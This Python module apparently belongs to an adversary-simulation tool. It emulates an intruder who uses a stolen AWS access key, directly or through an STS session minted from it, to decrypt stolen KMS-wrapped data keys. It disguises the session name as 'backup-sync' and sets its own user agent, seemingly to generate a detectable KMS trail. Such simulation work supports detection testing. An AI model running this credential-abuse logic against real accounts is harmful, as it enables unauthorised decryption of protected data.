"""Decrypts stolen wrapped data keys with a stolen AWS access key, and with a session minted from it at once.

The client calls itself by another user agent than the service does, as an intruder's tool would: that is what the KMS
call trail shows.
"""

from __future__ import annotations

import base64
from itertools import cycle
from typing import Any, ClassVar

import boto3
from botocore.config import Config
from botocore.exceptions import BotoCoreError, ClientError, ConnectTimeoutError, ReadTimeoutError

from simulations.journals import AdversaryConfig, Loot
from simulations.techniques.lane import Finding
from simulations.techniques.stolen import opens

_TRIES_PER_CLIENT = 5


class AwsKmsDecrypt:
    """Lane ``key`` signs with the access key itself and reconnects often; lane ``session`` lives on what it minted.

    The session is an assumed role when the configuration names one, else ``GetSessionToken``.  It is minted when the
    lane starts; a session that was refused is never given up, since no new one could be had.
    """

    lanes: ClassVar[tuple[str, ...]] = ("key", "session")

    def __init__(self, config: AdversaryConfig, loot: Loot, *, lane: str) -> None:
        self._config = config
        self._loot = loot
        self._targets = cycle(loot.targets)
        self._lane = lane
        self._kms: Any = None
        self._tries = 0

    def attempt(self) -> Finding:
        """Decrypt the next stolen data key and open its object with it."""
        target = next(self._targets)
        try:
            answer = self._client().decrypt(
                CiphertextBlob=base64.b64decode(target.wrapped), EncryptionContext=target.context
            )
        except ClientError as error:
            code = str(error.response.get("Error", {}).get("Code", "unreachable"))
            return Finding(False, "throttled" if code.startswith("Throttl") else code, self._lane)
        except (ConnectTimeoutError, ReadTimeoutError):
            return Finding(False, "timeout", self._lane)
        except BotoCoreError:
            return Finding(False, "unreachable", self._lane)
        if opens(target, answer["Plaintext"]):
            return Finding(True, "", self._lane)
        return Finding(False, "wrong-data-key", self._lane)

    def _client(self) -> Any:
        self._tries += 1
        due = self._lane == "key" and self._tries % _TRIES_PER_CLIENT == 0
        if self._kms is None or due:
            self._kms = self._open("kms", self._minted() if self._lane == "session" else self._stolen_session())
        return self._kms

    def _open(self, service: str, session: boto3.session.Session) -> Any:
        settings = Config(
            connect_timeout=1,
            read_timeout=2,
            retries={"total_max_attempts": 1},
            user_agent=self._config.user_agent,
        )
        opened: Any = session.client(  # type: ignore[call-overload]  # the stubs want a literal service name
            service, endpoint_url=self._config.endpoint_url or None, config=settings
        )
        return opened

    def _stolen_session(self) -> boto3.session.Session:
        return boto3.session.Session(
            aws_access_key_id=self._loot.access_key_id,
            aws_secret_access_key=self._loot.secret_access_key,
            region_name=self._config.region or None,
        )

    def _minted(self) -> boto3.session.Session:
        sts = self._open("sts", self._stolen_session())
        if self._config.role_arn:
            answer = sts.assume_role(RoleArn=self._config.role_arn, RoleSessionName="backup-sync")
        else:
            answer = sts.get_session_token()
        minted = answer["Credentials"]
        return boto3.session.Session(
            aws_access_key_id=minted["AccessKeyId"],
            aws_secret_access_key=minted["SecretAccessKey"],
            aws_session_token=minted["SessionToken"],
            region_name=self._config.region or None,
        )
